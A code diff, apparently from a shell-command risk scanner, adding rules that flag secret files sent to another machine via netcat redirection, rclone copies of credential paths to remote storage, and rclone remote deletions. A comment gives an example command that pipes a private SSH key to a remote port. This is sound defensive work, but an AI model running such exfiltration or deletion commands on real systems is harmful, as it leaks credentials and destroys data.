@@ -105,8 +105,17 @@ export function sendsStdin(c: CommandView): boolean {
 
 /** Rates sending secrets piped from earlier in the line to another machine. */
 export function exfiltration(c: CommandView): boolean {
+  if (!sendsStdin(c)) return false
+  // `nc host 4444 < ~/.ssh/id_rsa`: a secret file as standard input.
+  const file = c.cmd.redirects.find(
+    (r) => r.op === '<' && r.target && SECRET_PATH.test(r.target.value),
+  )
+  if (file?.target) {
+    c.emit('net.exfiltrate', 'high', `Sends ${file.target.value} to another machine`, file.span)
+    return true
+  }
   const stdin = c.cmd.stdin
-  if (stdin.kind === 'none' || !sendsStdin(c)) return false
+  if (stdin.kind === 'none') return false
   const pipeline = 'pipeline' in stdin ? stdin.pipeline : undefined
   const secret = secretSource(pipeline)
   if (!secret) return false
@@ -119,8 +128,8 @@ export function exfiltration(c: CommandView): boolean {
 
 const httpServer: Rule = (c) => {
   const opts = parseOptions(c.args, {
-    shortWithValue: 'pahdPcSCKe',
-    longWithValue: ['port', 'address', 'host', 'root', 'dir'],
+    shortWithValue: 'pahdPcSCKel',
+    longWithValue: ['port', 'address', 'host', 'root', 'dir', 'listen'],
   })
   const dir =
     opts.values.get('h') ??
@@ -145,7 +154,52 @@ const ngrok: Rule = (c) => {
   )
 }
 
+/** rclone copy/sync/move SRC DEST: secrets copied to a remote; purge/delete remove remote data. */
+const rclone: Rule = (c) => {
+  const opts = c.opts({
+    shortWithValue: 'P',
+    longWithValue: ['config', 'transfers', 'include', 'exclude', 'filter'],
+  })
+  const [verb, ...rest] = opts.operands
+  if (!verb || opts.long.has('dry-run') || c.args.some((a) => a.value === '-n')) return
+  const v = verb.value
+  if (/^(copy|sync|move|copyto|moveto)$/.test(v)) {
+    const secret = rest
+      .slice(0, -1)
+      .find((a) => SECRET_PATH.test(a.value) || /^(~|\/)\/?$/.test(a.value))
+    if (secret) {
+      c.emit(
+        'net.exfiltrate',
+        'high',
+        `Copies ${secret.value}, which holds keys or credentials, to remote storage`,
+        secret,
+      )
+      return
+    }
+    c.emit(
+      v === 'sync' ? 'fs.rclone.sync' : 'fs.rclone',
+      v === 'sync' ? 'high' : 'moderate',
+      v === 'sync'
+        ? `Makes ${rest[rest.length - 1]?.value ?? 'the destination'} identical to the source, deleting what is not there`
+        : `Copies files to ${rest[rest.length - 1]?.value ?? 'remote storage'}`,
+      verb,
+      { prod: true },
+    )
+    return
+  }
+  if (/^(purge|delete|deletefile|rmdir|rmdirs|cleanup)$/.test(v))
+    c.emit(
+      'cloud.storage.delete',
+      v === 'purge' ? 'high' : 'high',
+      `Deletes ${rest[0]?.value ?? 'remote files'} from remote storage`,
+      verb,
+      { prod: true },
+    )
+}
+
 export const exposureRules: Record<string, Rule> = {
+  rclone,
+  serve: httpServer,
   'http-server': httpServer,
   httpd: httpServer,
   'live-server': httpServer,
